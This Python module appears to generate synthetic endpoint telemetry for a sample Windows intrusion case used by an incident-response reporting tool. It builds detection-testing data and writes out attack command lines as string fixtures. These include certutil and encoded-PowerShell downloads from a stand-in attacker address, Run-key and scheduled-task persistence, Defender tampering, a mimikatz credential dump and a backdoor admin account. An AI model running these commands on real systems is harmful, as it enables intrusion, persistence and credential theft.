"""The intrusion on testmachine3 and srv-files01, step by step as docs/sample-incident.md lays it out.

Times, names, hashes and command lines below are the contract that the query pack and the loader
are written against, so change them only together with that document.
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from irreport.sample.background import console_tool, ticks
from irreport.sample.fleet import (
    CERTUTIL,
    CMD,
    EDGE,
    FINDSTR,
    IPCONFIG,
    LSASS,
    MSTSC,
    NET,
    NET1,
    NETSTAT,
    NLTEST,
    POWERSHELL,
    REG,
    SCHTASKS,
    SYSTEMINFO,
    TASKLIST,
    WHOAMI,
    Fleet,
)
from irreport.sample.rows import (
    DATA_END,
    Account,
    Device,
    File,
    Process,
    Telemetry,
    accept,
    connect,
    device_event,
    file_event,
    logon,
    ms,
    set_registry_value,
    spawn,
    utc,
)
from irreport.sample.sessions import Desktop, open_remote_session

ATTACKER_IP = "203.0.113.77"
C2_IP = "198.51.100.200"
C2_HOST = "update-check.example.net"
DOMAIN_CONTROLLER_IP = "10.0.4.10"

SCRIPT_SHA1 = "5c1e7f1a2b3d4e5f60718293a4b5c6d7e8f90123"
IMPLANT_SHA1 = "9a8b7c6d5e4f30211203f4e5d6c7b8a9f0e1d2c3"
ADMIN_DESKTOP = "C:\\Users\\administrator1\\Desktop"
LIBRARIES = "C:\\Users\\Public\\Libraries"
SCRIPT_TXT = File(f"{ADMIN_DESKTOP}\\VeryCoolScript.txt", 1187, sha1=SCRIPT_SHA1)
SCRIPT_CMD = File(f"{ADMIN_DESKTOP}\\VeryCoolScript.cmd", 1187, sha1=SCRIPT_SHA1)
IMPLANT = File(f"{LIBRARIES}\\odupdate.exe", 412_160, sha1=IMPLANT_SHA1)
IMPLANT_URL = f"http://{ATTACKER_IP}/odupdate.exe"
MIMIKATZ = File(
    f"{LIBRARIES}\\m.exe", 1_355_680, "gentilkiwi (Benjamin DELPY)", "mimikatz", "mimikatz for Windows", "mimikatz.exe"
)
MIMIKATZ_URL = f"http://{ATTACKER_IP}/m.exe"
ANYDESK = File("C:\\Users\\administrator1\\Downloads\\AnyDesk_setup.exe", 5_163_920)
TOOLS_URL = f"http://{ATTACKER_IP}/tools/"

RUN_KEY = (
    "HKEY_CURRENT_USER\\S-1-5-21-1004336348-1177238915-682003330-500\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
)
RUN_VALUE = "OneDriveUpdate"
TASK_NAME = "OneDrive Sync Check"
BACKDOOR_USER = "support_svc"
BACKDOOR_PASSWORD = "Spt#2026!svc"
LSASS_RULE_ID = "9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2"

SCRIPT_COMMAND_LINE = f'cmd.exe /c ""{SCRIPT_CMD.path}" "'
CERTUTIL_COMMAND_LINE = f"certutil.exe -urlcache -split -f {IMPLANT_URL} {IMPLANT.path}"
REG_COMMAND_LINE = (
    f"reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {RUN_VALUE} /t REG_SZ /d {IMPLANT.path} /f"
)
SCHTASKS_COMMAND_LINE = f'schtasks.exe /create /tn "{TASK_NAME}" /tr {IMPLANT.path} /sc onlogon /ru SYSTEM'
TAMPER_COMMAND_LINE = 'powershell.exe -NoProfile -Command "Set-MpPreference -DisableRealtimeMonitoring $true"'
MIMIKATZ_COMMAND_LINE = 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit'
MSTSC_COMMAND_LINE = "mstsc.exe /v:10.0.4.21"
# The obfuscated download cradle that AMSI stops. PowerShell's -EncodedCommand takes UTF-16LE base64.
CRADLE = f"$w=New-Object Net.WebClient;$s=$w.DownloadString('http://{ATTACKER_IP}/a.ps1');&('I'+'EX') $s"
CRADLE_COMMAND_LINE = "powershell.exe -NoP -W Hidden -Enc " + base64.b64encode(CRADLE.encode("utf-16-le")).decode(
    "ascii"
)

DISCOVERY_COMMANDS = [
    (WHOAMI, "whoami.exe /all"),
    (NET, "net.exe user"),
    (NET, "net.exe localgroup administrators"),
    (NLTEST, "nltest.exe /domain_trusts"),
    (IPCONFIG, "ipconfig.exe /all"),
    (SYSTEMINFO, "systeminfo.exe"),
    (TASKLIST, "tasklist.exe /v"),
    (NETSTAT, "netstat.exe -ano"),
    (FINDSTR, "findstr.exe /si password *.txt *.xml *.ini *.config"),
    (FINDSTR, 'findstr.exe /spin "password" C:\\Users\\*.txt'),
]
FILE_SERVER_COMMANDS = [
    (WHOAMI, "whoami.exe /all"),
    (NET, "net.exe share"),
    (NET, "net.exe session"),
    (NET, "net.exe localgroup administrators"),
    (IPCONFIG, "ipconfig.exe /all"),
]

BRUTE_FORCE_START = utc("2026-11-30T08:00:00")
BRUTE_FORCE_END = utc("2026-12-02T14:35:00")
BRUTE_FORCE_IP_COUNT = 40
BRUTE_FORCE_ATTEMPTS = 600
GUESSED_NAMES = [
    "administrator",
    "admin",
    "user",
    "test",
    "administrator1",
    "support",
    "backup",
    "user1",
    "test1",
    "sql",
    "scanner",
    "rdp",
    "operator",
    "admin1",
    "owner",
    "remote",
]


@dataclass
class Intrusion:
    """Accounts, addresses and processes of the attack that the alerts cite as evidence."""

    victim: Device
    file_server: Device
    admin: Account
    backdoor: Account
    brute_force_ips: list[str] = field(default_factory=list)
    processes: dict[str, Process] = field(default_factory=dict)


def simulate_intrusion(tel: Telemetry, fleet: Fleet) -> Intrusion:
    victim = fleet.devices["testmachine3"]
    file_server = fleet.devices["srv-files01"]
    intrusion = Intrusion(
        victim, file_server, victim.local_account("administrator1", 500), victim.local_account(BACKDOOR_USER, 1004)
    )
    rng = fleet.rng("attack")
    intrusion.brute_force_ips = guess_passwords(tel, fleet, intrusion, rng)
    desktop = break_in(tel, fleet, intrusion, rng)
    run_script(tel, desktop, intrusion, rng)
    shell = console_tool(
        tel, desktop.explorer, CMD, '"C:\\Windows\\system32\\cmd.exe" ', utc("2026-12-02T14:43:48.517"), rng
    )
    intrusion.processes["shell"] = shell
    implant = install_implant(tel, fleet, shell, intrusion, rng)
    create_backdoor_account(tel, shell, intrusion, rng)
    attack_defender(tel, shell, intrusion, rng)
    dump_credentials(tel, fleet, shell, intrusion, rng)
    browse_attacker_site(tel, desktop, implant, intrusion, rng)
    move_to_file_server(tel, fleet, desktop, intrusion, rng)
    return intrusion


def pick_brute_force_ips(rng: random.Random) -> list[str]:
    """Return 39 scanner addresses from the RFC 5737 ranges plus the attacker's, 40 in all."""
    reserved = {ATTACKER_IP, C2_IP, "198.51.100.10", "198.51.100.23"}
    candidates = [f"198.51.100.{host}" for host in range(30, 200)] + [f"203.0.113.{host}" for host in range(1, 255)]
    candidates = [address for address in candidates if address not in reserved]
    return sorted(rng.sample(candidates, BRUTE_FORCE_IP_COUNT - 1)) + [ATTACKER_IP]


def guess_passwords(tel: Telemetry, fleet: Fleet, intrusion: Intrusion, rng: random.Random) -> list[str]:
    """Record internet scanners guessing RDP passwords on testmachine3 for two and a half days.

    Each guess opens a new connection to port 3389 and fails a Network logon over NTLM, as Network
    Level Authentication makes it. Returns all 40 source addresses, the attacker's last.
    """
    addresses = pick_brute_force_ips(rng)
    scanners = addresses[:-1]
    weights = [rng.uniform(0.3, 2.0) ** 2 for _ in scanners]
    attempts_left = BRUTE_FORCE_ATTEMPTS - 3  # the attacker's own three failures come in break_in
    counts = [max(2, round(attempts_left * weight / sum(weights))) for weight in weights]
    counts[counts.index(max(counts))] += attempts_left - sum(counts)
    window = (BRUTE_FORCE_END - BRUTE_FORCE_START).total_seconds()
    for address, count in zip(scanners, counts, strict=True):
        bursts = 1 if count < 8 else rng.randint(1, 3)
        for burst in range(bursts):
            size = count // bursts + (1 if burst < count % bursts else 0)
            # Leave room for the burst's guesses, up to 12 s each, before the window ends.
            start = BRUTE_FORCE_START + timedelta(seconds=rng.uniform(0, window - size * 12 - 60))
            guess_burst(tel, fleet, intrusion, address, start, size, rng)
    return addresses


def guess_burst(
    tel: Telemetry, fleet: Fleet, intrusion: Intrusion, address: str, start: datetime, size: int, rng: random.Random
) -> None:
    host = intrusion.victim
    boot = fleet.boots[host.name]
    moment = start
    for _ in range(size):
        accept(tel, boot.remote_desktop, moment, rng, address, 3389)
        name = rng.choice(GUESSED_NAMES)
        fail_logon(tel, fleet, intrusion, moment + ms(rng.uniform(150, 900)), address, name, rng)
        # Now and then the scanner only checks that the port is open.
        if rng.random() < 0.07:
            accept(tel, boot.remote_desktop, moment + ms(rng.uniform(1000, 1500)), rng, address, 3389)
        moment += ms(rng.uniform(1500, 12_000))


def fail_logon(
    tel: Telemetry, fleet: Fleet, intrusion: Intrusion, moment: datetime, address: str, name: str, rng: random.Random
) -> None:
    host = intrusion.victim
    if name == intrusion.admin.name:
        account, reason = intrusion.admin, "InvalidUserNameOrPassword"
    else:
        account, reason = Account("", name, ""), "UnknownUser"
    logon(
        tel,
        host,
        moment,
        account,
        "Network",
        by=fleet.boots[host.name].lsass,
        action="LogonFailed",
        protocol="NTLM",
        failure=reason,
        remote_ip=address,
        rng=rng,
    )


def break_in(tel: Telemetry, fleet: Fleet, intrusion: Intrusion, rng: random.Random) -> Desktop:
    """Let the attacker connect, fail three guesses and then log on as administrator1 over RDP."""
    host = intrusion.victim
    boot = fleet.boots[host.name]
    accept(tel, boot.remote_desktop, utc("2026-12-02T14:35:40.000"), rng, ATTACKER_IP, 3389)
    for moment, name in [
        ("14:35:52.418", "administrator"),
        ("14:36:21.077", "admin"),
        ("14:36:48.903", "administrator1"),
    ]:
        fail_logon(tel, fleet, intrusion, utc(f"2026-12-02T{moment}"), ATTACKER_IP, name, rng)
    desktop = open_remote_session(
        tel,
        fleet,
        host,
        intrusion.admin,
        utc("2026-12-02T14:37:12.000"),
        rng,
        remote_ip=ATTACKER_IP,
        session_id=3,
        protocol="NTLM",
        integrity="High",
    )
    intrusion.processes["explorer"] = desktop.explorer
    return desktop


def run_script(tel: Telemetry, desktop: Desktop, intrusion: Intrusion, rng: random.Random) -> None:
    """Paste the script over the RDP clipboard, rename it to .cmd and run it from Explorer."""
    assert desktop.clipboard is not None
    file_event(tel, desktop.clipboard, utc("2026-12-02T14:41:03.000"), "FileCreated", SCRIPT_TXT)
    file_event(
        tel,
        desktop.explorer,
        utc("2026-12-02T14:41:30.000"),
        "FileRenamed",
        SCRIPT_CMD,
        PreviousFileName=SCRIPT_TXT.name,
        PreviousFolderPath=SCRIPT_TXT.path,
    )
    script = console_tool(tel, desktop.explorer, CMD, SCRIPT_COMMAND_LINE, utc("2026-12-02T14:42:05.120"), rng)
    intrusion.processes["script"] = script
    moment = script.created + ms(rng.uniform(40, 120))
    for image, command_line in DISCOVERY_COMMANDS:
        tool = run_console_command(tel, script, image, command_line, moment, rng)
        if image is NLTEST:
            connect(tel, tool, moment + ms(rng.uniform(15, 40)), rng, DOMAIN_CONTROLLER_IP, 135)
        intrusion.processes.setdefault(image.name, tool)
        moment += ms(rng.uniform(40, 200))


def run_console_command(
    tel: Telemetry, parent: Process, image: File, command_line: str, moment: datetime, rng: random.Random
) -> Process:
    """Start a console tool. A net.exe also gets the net1.exe child that does its work on Windows."""
    tool = console_tool(tel, parent, image, command_line, moment, rng)
    if image is NET:
        arguments = command_line.split(" ", 1)[1]
        spawn(tel, tool, NET1, f"C:\\Windows\\system32\\net1 {arguments}", moment + ms(rng.uniform(10, 25)), rng)
    return tool


def install_implant(tel: Telemetry, fleet: Fleet, shell: Process, intrusion: Intrusion, rng: random.Random) -> Process:
    """Download odupdate.exe with certutil, persist it in the Run key and a task, and start it."""
    downloader = console_tool(tel, shell, CERTUTIL, CERTUTIL_COMMAND_LINE, utc("2026-12-02T14:44:10.000"), rng)
    intrusion.processes["certutil"] = downloader
    connect(tel, downloader, downloader.created + ms(412), rng, ATTACKER_IP, 80, IMPLANT_URL)
    cached = File(
        "C:\\Users\\administrator1\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\4B3E1D0C2F6A58E97D31C8A0B5F2E6D4",
        IMPLANT.size,
        sha1=IMPLANT_SHA1,
    )
    file_event(
        tel,
        downloader,
        downloader.created + ms(1208),
        "FileCreated",
        cached,
        FileOriginUrl=IMPLANT_URL,
        FileOriginIP=ATTACKER_IP,
    )
    file_event(
        tel,
        downloader,
        downloader.created + ms(1377),
        "FileCreated",
        IMPLANT,
        FileOriginUrl=IMPLANT_URL,
        FileOriginIP=ATTACKER_IP,
    )

    registry_tool = console_tool(tel, shell, REG, REG_COMMAND_LINE, utc("2026-12-02T14:44:40.000"), rng)
    intrusion.processes["reg"] = registry_tool
    set_registry_value(tel, registry_tool, registry_tool.created + ms(23), RUN_KEY, RUN_VALUE, IMPLANT.path)

    implant = spawn(tel, shell, IMPLANT, IMPLANT.path, utc("2026-12-02T14:45:02.000"), rng)
    intrusion.processes["implant"] = implant
    connect(tel, implant, implant.created + ms(1214), rng, ATTACKER_IP, 443)
    # The first call to the second server goes to a bare IP, so network protection has no host name to block.
    connect(tel, implant, implant.created + ms(3687), rng, C2_IP, 8443)
    for moment in ticks(implant.created + timedelta(minutes=4), DATA_END, 4.0, 6.0, rng):
        connect(tel, implant, moment, rng, ATTACKER_IP, 443)

    scheduler = console_tool(tel, shell, SCHTASKS, SCHTASKS_COMMAND_LINE, utc("2026-12-02T14:46:30.000"), rng)
    intrusion.processes["schtasks"] = scheduler
    device_event(
        tel,
        scheduler,
        scheduler.created + ms(318),
        "ScheduledTaskCreated",
        {"TaskName": f"\\{TASK_NAME}", "TaskContent": task_xml(IMPLANT.path)},
    )
    file_event(
        tel,
        fleet.boots[intrusion.victim.name].scheduler,
        scheduler.created + ms(331),
        "FileCreated",
        File(f"C:\\Windows\\System32\\Tasks\\{TASK_NAME}", 3_412),
    )
    return implant


def task_xml(command: str) -> str:
    """Return the task definition that schtasks.exe registers for an at-logon task run as SYSTEM."""
    return (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
        "<Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>"
        '<Principals><Principal id="Author"><UserId>S-1-5-18</UserId>'
        "<RunLevel>LeastPrivilege</RunLevel></Principal></Principals>"
        f'<Actions Context="Author"><Exec><Command>{command}</Command></Exec></Actions>'
        "</Task>"
    )


def create_backdoor_account(tel: Telemetry, shell: Process, intrusion: Intrusion, rng: random.Random) -> None:
    backdoor = intrusion.backdoor
    user_command = f"net.exe user {BACKDOOR_USER} {BACKDOOR_PASSWORD} /add"
    adder = run_console_command(tel, shell, NET, user_command, utc("2026-12-02T14:47:15.000"), rng)
    intrusion.processes["net_user_add"] = adder
    worker = child_named(tel, adder, NET1.name)
    device_event(
        tel,
        worker,
        adder.created + ms(61),
        "UserAccountCreated",
        AccountDomain=backdoor.domain,
        AccountName=backdoor.name,
        AccountSid=backdoor.sid,
    )
    group_command = f"net.exe localgroup administrators {BACKDOOR_USER} /add"
    grouper = run_console_command(tel, shell, NET, group_command, utc("2026-12-02T14:47:19.384"), rng)
    intrusion.processes["net_group_add"] = grouper
    device_event(
        tel,
        child_named(tel, grouper, NET1.name),
        grouper.created + ms(48),
        "UserAccountAddedToLocalGroup",
        {"GroupName": "Administrators", "GroupDomainName": "BUILTIN", "GroupSid": "S-1-5-32-544"},
        AccountDomain=backdoor.domain,
        AccountName=backdoor.name,
        AccountSid=backdoor.sid,
    )


def child_named(tel: Telemetry, parent: Process, file_name: str) -> Process:
    """Return the newest child of parent with the given image name."""
    for process in reversed(tel.processes):
        if process.parent is parent and process.image.name == file_name:
            return process
    raise LookupError(f"no child {file_name} of process {parent.pid} on {parent.device.name}")


def attack_defender(tel: Telemetry, shell: Process, intrusion: Intrusion, rng: random.Random) -> None:
    """Try to switch off real-time protection, then run a download cradle that AMSI stops."""
    tamper = console_tool(tel, shell, POWERSHELL, TAMPER_COMMAND_LINE, utc("2026-12-02T14:49:00.000"), rng)
    intrusion.processes["tamper"] = tamper
    device_event(tel, tamper, tamper.created + ms(912), "PowerShellCommand", {"Command": "Set-MpPreference"})
    device_event(
        tel,
        tamper,
        tamper.created + ms(1143),
        "TamperingAttempt",
        {
            "Status": "Blocked",
            "Target": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
            "TamperingAction": "RegistryModification",
            "OriginalValue": "0",
            "TamperingAttemptedValue": "1",
        },
        RegistryKey="HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection",
        RegistryValueName="DisableRealtimeMonitoring",
        RegistryValueData="1",
    )
    cradle = console_tool(tel, shell, POWERSHELL, CRADLE_COMMAND_LINE, utc("2026-12-02T14:49:21.655"), rng)
    intrusion.processes["cradle"] = cradle
    device_event(tel, cradle, cradle.created + ms(804), "PowerShellCommand", {"Command": "New-Object"})
    device_event(
        tel,
        cradle,
        cradle.created + ms(1032),
        "AmsiScriptDetection",
        {"Description": "AMSI flagged an obfuscated script that downloads and runs code from the internet"},
        ProcessCommandLine=CRADLE_COMMAND_LINE,
    )


def dump_credentials(tel: Telemetry, fleet: Fleet, shell: Process, intrusion: Intrusion, rng: random.Random) -> None:
    """Fetch mimikatz, which Defender detects and quarantines after ASR stops it reading lsass.exe."""
    command_line = f"certutil.exe -urlcache -split -f {MIMIKATZ_URL} {MIMIKATZ.path}"
    downloader = console_tool(tel, shell, CERTUTIL, command_line, utc("2026-12-02T14:50:18.764"), rng)
    connect(tel, downloader, downloader.created + ms(388), rng, ATTACKER_IP, 80, MIMIKATZ_URL)
    file_event(
        tel,
        downloader,
        utc("2026-12-02T14:50:20.000"),
        "FileCreated",
        MIMIKATZ,
        FileOriginUrl=MIMIKATZ_URL,
        FileOriginIP=ATTACKER_IP,
    )

    dumper = console_tool(tel, shell, MIMIKATZ, MIMIKATZ_COMMAND_LINE, utc("2026-12-02T14:50:31.206"), rng)
    intrusion.processes["mimikatz"] = dumper
    lsass_columns = {"FileName": LSASS.name, "FolderPath": LSASS.path, "SHA1": LSASS.sha1}
    device_event(tel, dumper, dumper.created + ms(402), "OpenProcessApiCall", {"DesiredAccess": 5136}, **lsass_columns)
    device_event(
        tel,
        dumper,
        dumper.created + ms(405),
        "AsrLsassCredentialTheftBlocked",
        {"IsAudit": False, "RuleId": LSASS_RULE_ID},
        **lsass_columns,
    )
    device_event(
        tel,
        shell,
        dumper.created + ms(1187),
        "AntivirusDetection",
        {
            "ThreatName": "HackTool:Win32/Mimikatz.D",
            "WasRemediated": True,
            "WasExecutingWhileDetected": True,
            "Action": "quarantine",
            "Category": "Tool",
        },
        FileName=MIMIKATZ.name,
        FolderPath=MIMIKATZ.path,
        **MIMIKATZ.hash_fields(),
        FileSize=MIMIKATZ.size,
    )
    antivirus = fleet.boots[intrusion.victim.name].antivirus
    file_event(tel, antivirus, dumper.created + ms(2466), "FileDeleted", MIMIKATZ)


def browse_attacker_site(
    tel: Telemetry, desktop: Desktop, implant: Process, intrusion: Intrusion, rng: random.Random
) -> None:
    """Open the attacker's tool page in Edge, which SmartScreen warns about.

    Meanwhile network protection blocks the implant's call to its second server.
    """
    browser = spawn(
        tel, desktop.explorer, EDGE, f'"{EDGE.path}" --profile-directory=Default', utc("2026-12-02T14:51:40.281"), rng
    )
    intrusion.processes["edge"] = browser
    connect(tel, browser, utc("2026-12-02T14:52:04.913"), rng, ATTACKER_IP, 80, TOOLS_URL)
    device_event(
        tel,
        browser,
        utc("2026-12-02T14:52:05.377"),
        "SmartScreenUrlWarning",
        {"Experience": "Malicious"},
        RemoteUrl=TOOLS_URL,
    )
    download_url = TOOLS_URL + ANYDESK.name
    file_event(
        tel,
        browser,
        utc("2026-12-02T14:52:26.540"),
        "FileCreated",
        ANYDESK,
        FileOriginUrl=download_url,
        FileOriginIP=ATTACKER_IP,
    )
    device_event(
        tel,
        browser,
        utc("2026-12-02T14:52:31.102"),
        "SmartScreenAppWarning",
        {"Experience": "Untrusted"},
        FileName=ANYDESK.name,
        FolderPath=ANYDESK.path,
        **ANYDESK.hash_fields(),
        FileOriginUrl=download_url,
    )
    device_event(
        tel,
        implant,
        utc("2026-12-02T14:52:40.846"),
        "ExploitGuardNetworkProtectionBlocked",
        {"ResponseCategory": "CustomBlockList", "RemoteUrl": C2_HOST},
        RemoteUrl=C2_HOST,
        RemoteIP=C2_IP,
        RemotePort=8443,
    )


def move_to_file_server(
    tel: Telemetry, fleet: Fleet, desktop: Desktop, intrusion: Intrusion, rng: random.Random
) -> None:
    """RDP from testmachine3 to srv-files01 with the same local administrator password, and look around."""
    victim, server = intrusion.victim, intrusion.file_server
    client = spawn(tel, desktop.explorer, MSTSC, MSTSC_COMMAND_LINE, utc("2026-12-02T14:58:30.000"), rng)
    intrusion.processes["mstsc"] = client
    connect(tel, client, utc("2026-12-02T14:58:31.207"), rng, server.ip, 3389)
    accept(tel, fleet.boots[server.name].remote_desktop, utc("2026-12-02T14:58:31.211"), rng, victim.ip, 3389)
    remote = open_remote_session(
        tel,
        fleet,
        server,
        server.local_account("administrator1", 500),
        utc("2026-12-02T14:58:41.000"),
        rng,
        remote_ip=victim.ip,
        remote_device=victim.name,
        session_id=3,
        protocol="NTLM",
        integrity="High",
    )
    shell = console_tool(
        tel, remote.explorer, CMD, '"C:\\Windows\\system32\\cmd.exe" ', utc("2026-12-02T14:59:30.622"), rng
    )
    intrusion.processes["file_server_shell"] = shell
    moment = shell.created + timedelta(seconds=11)
    for image, command_line in FILE_SERVER_COMMANDS:
        run_console_command(tel, shell, image, command_line, moment, rng)
        moment += timedelta(seconds=rng.uniform(12, 22), milliseconds=rng.randint(0, 999))
